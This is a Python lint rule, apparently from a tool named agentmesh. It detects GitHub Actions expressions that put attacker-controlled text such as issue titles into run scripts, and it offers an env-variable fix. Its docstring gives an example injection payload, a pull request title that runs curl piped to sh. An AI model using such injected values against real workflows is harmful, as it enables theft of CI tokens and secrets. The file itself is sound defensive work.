"""A script is made of text that anybody may write.

An expression is put into a script before the shell reads it. A pull request titled
`"; curl example.org/x | sh; "` then runs its title, with the token and the secrets of the job.
Titles, bodies, names of branches, messages and names in commits are written by whoever opens an
issue or a pull request. A variable of the environment is only ever text to the shell.

Bad:

```yaml
- run: echo "${{ github.event.issue.title }}"
```

Good:

```yaml
- env:
    ISSUE_TITLE: ${{ github.event.issue.title }}
  run: echo "$ISSUE_TITLE"
```

Remedy: hand the value over in `env` and use the variable. `--fix` does that in scripts for bash and
sh, and in template strings of `actions/github-script`.
"""

from __future__ import annotations

from collections.abc import Iterator

from agentmesh.core.problem import Problem
from agentmesh.lang.references import reference
from agentmesh.lang.rules.edit import Edit
from agentmesh.lang.rules.rule import Rule
from agentmesh.lang.rules.source import Expression, Source
from agentmesh.lang.untrusted import untrusted

META = Rule(
    id="untrusted-input",
    severity="warning",
    summary="A script is made of text that anybody may write.",
    words=("${{",),
)

SCRIPTS: dict[str, str] = {
    "actions/github-script": "script",
    "addnab/docker-run-action": "run",
    "appleboy/ssh-action": "script",
    "azure/cli": "inlinescript",
    "azure/powershell": "inlinescript",
    "cardinalby/js-eval-action": "expression",
    "devorbitus/yq-action-output": "cmd",
    "jannekem/run-python-script-action": "script",
    "mikefarah/yq": "cmd",
    "nick-fields/retry": "command",
    "nick-invision/retry": "command",
    "reactivecircus/android-emulator-runner": "script",
}
"""Actions that run what one of their inputs says."""


def check(file: Source) -> Iterator[Problem]:
    """Reports each such expression at its place in the script."""
    for expression in file.expressions:
        if is_script(expression) and (source := untrusted(expression.root)):
            yield META.problem(
                file.span_of_expression(expression),
                f"'{source}' may be written by anybody, and becomes a part of this script",
                "Hand it over in env and use the variable in the script.",
            )


def is_script(expression: Expression) -> bool:
    """Whether an expression stands in a text that is run."""
    step = expression.step
    if step is None:
        return False
    key = expression.value.key
    if key == "run":
        return True
    if not key.startswith("with.") or step.uses is None:
        return False
    found = reference(step.uses.source)
    return found is not None and SCRIPTS.get(found.action) == key[5:].lower()


def fix(file: Source, problem: Problem) -> tuple[Edit, ...]:
    """The value in ``env``, and its variable in the script, where quoting allows it."""
    from agentmesh.lang.rules import through_env

    return through_env.edits(file, is_script).get(problem.span, ())
